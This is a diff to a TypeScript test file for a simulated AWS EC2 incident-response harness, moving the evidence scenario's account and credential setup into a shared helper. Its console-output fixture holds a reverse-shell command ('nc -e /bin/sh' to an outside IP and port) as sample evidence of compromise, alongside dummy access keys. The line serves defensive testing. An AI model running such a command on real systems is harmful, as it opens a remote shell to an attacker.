@@ -9,7 +9,7 @@ import {
   CreateImageCommand, DeleteSnapshotCommand, DeregisterImageCommand, DescribeImagesCommand, DescribeInstancesCommand,
   DescribeSnapshotsCommand, GetConsoleOutputCommand, GetConsoleScreenshotCommand, type EC2Client,
 } from '@aws-sdk/client-ec2';
-import { awsError, clients, startHarness, type SimHarness } from '../helpers/sim.js';
+import { awsError, clients, startHarness, type SimHarness, fullAndReadOnly } from '../helpers/sim.js';
 
 const ACCOUNT = '111122223333';
 const FULL_KEY = 'AKIAEVIDENCEFULL001';
@@ -22,31 +22,20 @@ const DATA = 'vol-0bbb0000000000002';
 const CONSOLE = '[    0.000000] Linux version 6.1.0\n[    1.200000] suspicious: nc -e /bin/sh 203.0.113.9 4444\nbox login: ';
 
 function scenario(): Record<string, unknown> {
-  return {
-    name: 'evidence',
-    accounts: [{
-      id: ACCOUNT,
-      credentials: [
-        { accessKeyId: FULL_KEY, user: 'responder' },
-        { accessKeyId: READONLY_KEY, user: 'auditor', allow: ['ec2:Describe*'] },
+  return fullAndReadOnly('evidence', ACCOUNT, FULL_KEY, READONLY_KEY, {
+  vpcs: [{ name: 'v', cidr: '10.1.0.0/16', subnets: [{ name: 's', cidr: '10.1.1.0/24', az: 'us-east-1a' }], securityGroups: [{ name: 'app' }] }],
+  instances: [
+    {
+      id: BOX, name: 'box', subnet: 's', securityGroups: ['app'], consoleOutput: CONSOLE,
+      volumes: [
+        { id: ROOT, device: '/dev/xvda', size: 8 },
+        { id: DATA, device: '/dev/sdf', size: 20, deleteOnTermination: false },
       ],
-      regions: [{
-        name: 'us-east-1',
-        vpcs: [{ name: 'v', cidr: '10.1.0.0/16', subnets: [{ name: 's', cidr: '10.1.1.0/24', az: 'us-east-1a' }], securityGroups: [{ name: 'app' }] }],
-        instances: [
-          {
-            id: BOX, name: 'box', subnet: 's', securityGroups: ['app'], consoleOutput: CONSOLE,
-            volumes: [
-              { id: ROOT, device: '/dev/xvda', size: 8 },
-              { id: DATA, device: '/dev/sdf', size: 20, deleteOnTermination: false },
-            ],
-          },
-          { id: STOPPED, name: 'stopped', subnet: 's', securityGroups: ['app'], state: 'stopped' },
-          { id: XEN, name: 'xen', subnet: 's', securityGroups: ['app'], nitro: false, type: 'm4.large' },
-        ],
-      }],
-    }],
-  };
+    },
+    { id: STOPPED, name: 'stopped', subnet: 's', securityGroups: ['app'], state: 'stopped' },
+    { id: XEN, name: 'xen', subnet: 's', securityGroups: ['app'], nitro: false, type: 'm4.large' },
+  ],
+  });
 }
 
 async function harness(): Promise<SimHarness> {
